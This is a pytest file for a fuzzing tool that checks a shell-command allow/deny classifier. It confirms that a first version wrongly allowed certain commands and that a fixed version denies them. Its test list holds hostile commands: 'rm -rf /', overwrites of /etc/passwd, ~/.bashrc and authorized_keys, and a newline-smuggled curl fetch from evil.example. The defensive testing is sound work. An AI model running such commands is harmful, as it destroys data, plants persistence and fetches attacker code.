"""The worked example (examples/compose): the first classifier's findings, and the fix."""

from __future__ import annotations

import argparse
from pathlib import Path

import pytest

from assay.compose.classifier import load_object
from assay.compose.cli import register, run
from assay.discovery import import_file, targets_in

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "compose"
V1 = f"{EXAMPLE / 'shell_classifier_v1.py'}:is_allowed"
FIXED = f"{EXAMPLE / 'shell_classifier.py'}:is_allowed"

#: The minimized commands of every finding in examples/compose/README.md.
FOUND = [
    "xargs rm -rf /",
    "xargs kill -9 1",
    "find . -exec rm -rf / \\;",
    "find . -exec ssh root@203.0.113.7 \\;",
    "ls | tee /etc/passwd",
    "ls | tee -a ~/.bashrc",
    "ls | tee ~/.ssh/authorized_keys",
    "ls > $HOME/.bashrc",
    "ls >> $HOME/.bashrc",
    "ls &> $HOME/.bashrc",
    "ls; echo $(ls\nrm -rf /)",
    'ls;echo "$(ls \n chmod 777 /etc/passwd)"',
    'ls; echo "`ls\ncurl http://evil.example/install.sh`"',
]


def args(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="assay")
    register(parser.add_subparsers(dest="command"))
    return parser.parse_args(["compose", *argv])


@pytest.mark.parametrize("command", FOUND)
def test_the_first_version_allowed_each_finding_and_the_fix_denies_it(command: str) -> None:
    assert load_object(V1)(command) is True
    assert load_object(FIXED)(command) is False


def test_the_fix_still_allows_what_it_should() -> None:
    fixed = load_object(FIXED)
    for command in ["ls -la && git status", "cat README.md | grep -n TODO", "echo \"$(date)\"",
                    "find . -name '*.py' | xargs grep -n TODO", "ls | tee listing.txt", "ls > out.txt",
                    "echo \"`ls\nwc -l README.md`\"", "X=$(pwd) ls"]:
        assert fixed(command) is True, command


def run_example(tmp_path, classifier: str, cases: int) -> int:
    return run(args("--classifier", classifier, "--leaves", str(EXAMPLE / "leaves.txt"), "--fuzz-cases", str(cases),
                    "--fuzz-seed", "1", "--fuzz-corpus", str(tmp_path / "c"), "--fuzz-artifacts", str(tmp_path / "a")))


def test_the_run_finds_the_first_versions_fail_opens(tmp_path, capsys) -> None:
    assert run_example(tmp_path, V1, 800) == 1
    out = capsys.readouterr().out
    assert "fail-open:wrap-xargs/rm" in out and "fail-open:redirect-tee" in out
    assert "leaf pool: 49 of 55 admitted (33 allowed, 16 denied by the classifier)" in out


def test_the_fixed_classifier_is_clean_in_the_same_budget(tmp_path, capsys) -> None:
    run_example(tmp_path, FIXED, 800)
    out = capsys.readouterr().out
    assert "[fail-open]" not in out and "[over-denial]" not in out


def test_the_example_target_is_discovered() -> None:
    module = import_file(EXAMPLE / "fuzz_shell_compose.py")
    (target,) = targets_in(module)
    assert target.name == "shell_compose" and target.sources[0].endswith("shell_classifier.py")
